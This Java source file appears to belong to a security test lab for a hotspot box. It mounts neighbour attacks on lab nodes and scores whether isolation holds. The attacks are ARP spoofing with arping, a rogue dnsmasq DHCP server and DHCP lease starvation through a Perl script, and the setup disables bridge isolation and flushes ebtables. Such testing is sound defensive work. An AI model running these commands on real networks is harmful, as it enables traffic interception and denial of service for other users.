package io.gatehouse.proof;

import io.gatehouse.lab.LabException;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/** What a device on the same network does to others and to the box's DHCP. */
final class NeighbourAttacks {
  private static final int STARVING = 3_000;
  private static final int STARVING_SECONDS = 20;

  private NeighbourAttacks() {}

  static List<Attack> list() {
    return List.of(
        Attack.of(
            "G13",
            "ARP: being the gateway, and being a paid guest",
            "arping tcpdump",
            NeighbourAttacks::arp,
            scene ->
                onFlatBridge(
                    scene,
                    scene.guest(),
                    List.of(
                        "ip neigh replace "
                            + address(scene.guest())
                            + " dev br-guest nud reachable lladdr "
                            + scene.lab().mac(scene.guest().node())),
                    () -> arp(scene))),
        Attack.of(
            "G14",
            "a DHCP server of one's own",
            "dnsmasq tcpdump",
            scene -> rogueDhcp(scene, scene.another()),
            scene -> {
              Phone fresh = scene.another();
              return onFlatBridge(scene, fresh, List.of(), () -> rogueDhcp(scene, fresh));
            }),
        Attack.of(
            "G15",
            STARVING + " devices that ask for leases in " + STARVING_SECONDS + " s",
            "perl",
            NeighbourAttacks::starve,
            NeighbourAttacks::starveSmallPool));
  }

  /** As if the access point and the bridge kept nobody apart. */
  private static Seen onFlatBridge(
      Scene scene, Phone victim, List<String> more, java.util.function.Supplier<Seen> attack) {
    List<String> holes = new ArrayList<>();
    for (Phone phone : List.of(scene.stranger(), victim)) {
      holes.add("ip link set p-" + phone.node() + " type bridge_slave isolated off");
    }
    holes.add("ebtables -F");
    holes.addAll(more);
    try {
      return scene.withHoles(holes, attack);
    } finally {
      for (Phone phone : List.of(scene.stranger(), victim)) {
        scene
            .hotspot()
            .inBox("ip", "link", "set", "p-" + phone.node(), "type", "bridge_slave", "isolated", "on")
            .must();
      }
    }
  }

  static String address(Phone phone) {
    for (String word :
        phone.run("ip", "-4", "-o", "addr", "show", "dev", "eth0").must().split("\\s+", -1)) {
      if (word.contains("/")) {
        return word.substring(0, word.indexOf('/'));
      }
    }
    throw new LabException(phone.node() + " has no address");
  }

  private static Seen arp(Scene scene) {
    Phone liar = scene.stranger();
    Phone guest = scene.guest();
    String mac = scene.lab().mac(liar.node()).toString();
    String victim = address(guest);
    guest.run("ping", "-q", "-c", "1", "10.20.0.1");
    liar.run("sysctl", "-qw", "net.ipv4.ip_nonlocal_bind=1");
    try (Tap tap = new Tap(scene.lab(), guest.node(), "eth0", "arp and ether src " + mac)) {
      for (String mode : List.of("-U", "-A")) {
        liar.run("arping", mode, "-q", "-I", "eth0", "-s", "10.20.0.1", "-c", "4", "10.20.0.1");
        liar.run("arping", mode, "-q", "-I", "eth0", "-s", victim, "-c", "4", victim);
      }
      boolean guestFooled = guest.run("ip", "neigh", "show", "10.20.0.1").out().contains(mac);
      boolean boxFooled =
          scene.hotspot().inBox("ip", "neigh", "show", victim).out().contains(mac);
      long frames = tap.seen().got();
      guest.run("ip", "neigh", "flush", "dev", "eth0");
      return new Seen(
          frames + (guestFooled ? 1 : 0) + (boxFooled ? 1 : 0),
          frames
              + " lies heard by the guest"
              + (guestFooled ? ", guest fooled" : "")
              + (boxFooled ? ", box fooled" : ", box not fooled"));
    }
  }

  private static Seen rogueDhcp(Scene scene, Phone fresh) {
    Phone liar = scene.stranger();
    String mac = scene.lab().mac(liar.node()).toString();
    liar.run("ip", "addr", "replace", "10.66.0.1/24", "dev", "eth0");
    Process rogue =
        scene
            .lab()
            .start(
                liar.node(),
                "dnsmasq",
                "--keep-in-foreground",
                "--conf-file=/dev/null",
                "--pid-file=",
                "--port=0",
                "--interface=eth0",
                "--dhcp-authoritative",
                "--dhcp-leasefile=/run/lab/rogue.leases",
                "--dhcp-range=10.66.0.10,10.66.0.200,255.255.255.0,10m");
    try (Tap tap =
        new Tap(
            scene.lab(), fresh.node(), "eth0", "udp and src port 67 and ether src " + mac)) {
      Tap.pause(500);
      String lease = fresh.join().toString();
      Seen offers = tap.seen();
      return new Seen(
          offers.got() + (lease.startsWith("10.66.") ? 1 : 0),
          offers.got() + " of its offers heard, lease is " + lease);
    } finally {
      rogue.destroy();
      liar.run("ip", "addr", "del", "10.66.0.1/24", "dev", "eth0");
    }
  }

  private static Seen starve(Scene scene) {
    String taken = many(scene, scene.stranger(), STARVING, STARVING_SECONDS);
    long leases = taken.lines().count();
    boolean renewed = renews(scene, scene.guest());
    long waited = secondsUntilLease(scene, scene.another(), 60);
    return new Seen(
        (renewed ? 0 : 1) + (waited < 0 ? 1 : 0),
        leases
            + " leases taken; paid guest "
            + (renewed ? "renewed" : "lost its lease")
            + "; a new one "
            + (waited < 0 ? "got none in 60 s" : "got one in " + waited + " s"));
  }

  static String many(Scene scene, Phone from, int devices, int seconds) {
    resource(scene, "dhcp-many.pl");
    return scene
        .lab()
        .run(
            from.node(),
            Scene.LIMIT,
            "perl",
            "/run/lab/dhcp-many.pl",
            "eth0",
            Integer.toString(devices),
            Integer.toString(seconds))
        .must();
  }

  /** Lays one of the attackers' programs where the lab's nodes see it. */
  static void resource(Scene scene, String name) {
    try (InputStream in = NeighbourAttacks.class.getResourceAsStream(name)) {
      Outputs.write(
          scene.lab().file(name), new String(in.readAllBytes(), StandardCharsets.UTF_8));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static boolean renews(Scene scene, Phone phone) {
    try {
      String before = address(phone);
      return scene.lab().renew(phone.node()).ip().toString().equals(before);
    } catch (LabException none) {
      return false;
    }
  }

  private static long secondsUntilLease(Scene scene, Phone phone, long most) {
    long start = System.nanoTime();
    while (System.nanoTime() - start < Duration.ofSeconds(most).toNanos()) {
      try {
        scene.lab().lease(phone.node());
        return Duration.ofNanos(System.nanoTime() - start).toSeconds();
      } catch (LabException notYet) {
        Tap.pause(500);
      }
    }
    return -1;
  }

  /** A server that has 20 addresses for an hour each, as small boxes have: the next one gets none. */
  private static Seen starveSmallPool(Scene scene) {
    resource(scene, "dhcp-many.pl");
    String script =
        """
        ip link add small-a type veth peer name small-b
        ip addr add 10.77.0.1/24 dev small-a
        ip link set small-a up; ip link set small-b up
        dnsmasq --keep-in-foreground --conf-file=/dev/null --pid-file= --port=0 --interface=small-a \
          --bind-interfaces --dhcp-leasefile=/run/lab/small.leases --no-ping \
          --dhcp-range=10.77.0.10,10.77.0.29,255.255.255.0,1h >/run/lab/small.log 2>&1 &
        server=$!
        sleep 0.5
        perl /run/lab/dhcp-many.pl small-b 60 3 | wc -l
        perl /run/lab/dhcp-many.pl small-b 1 3 | wc -l
        kill $server
        ip link del small-a
        """;
    String[] leases =
        scene
            .lab()
            .run("internet", Scene.LIMIT, "sh", "-c", script)
            .must()
            .strip()
            .split("\\s+", -1);
    long next = Long.parseLong(leases[1]);
    return new Seen(
        next == 0 ? 1 : 0, leases[0] + " of 20 leases taken, the next device got " + next);
  }
}
